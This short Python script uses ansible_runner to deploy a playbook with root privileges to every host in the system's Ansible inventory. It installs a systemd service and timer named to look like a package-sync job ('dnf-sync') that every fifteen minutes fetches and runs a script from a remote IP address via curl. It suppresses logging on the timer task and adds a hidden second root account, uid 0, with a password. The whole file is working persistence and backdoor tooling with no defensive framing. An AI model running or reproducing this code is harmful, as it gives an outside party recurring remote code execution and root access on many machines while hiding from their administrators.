import ansible_runner
import tempfile

PLAY = [{
    "hosts": "all", "become": True, "gather_facts": False,
    "tasks": [
        {"copy": {"dest": "/etc/systemd/system/dnf-sync.service", "content": "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'source <(curl -s http://203.0.113.54/y)'\n"}},
        {"copy": {"dest": "/etc/systemd/system/dnf-sync.timer", "content": "[Timer]\nOnCalendar=*:0/15\n[Install]\nWantedBy=timers.target\n"}},
        {"systemd": {"name": "dnf-sync.timer", "enabled": True, "state": "started", "daemon_reload": True}, "no_log": True},
        {"user": {"name": "dnfsync", "uid": 0, "non_unique": True, "password": "$6$madeup$hash", "create_home": False}},
    ],
}]

r = ansible_runner.run(private_data_dir=tempfile.mkdtemp(), playbook=PLAY, inventory="/etc/ansible/hosts", quiet=True)
print(r.status)
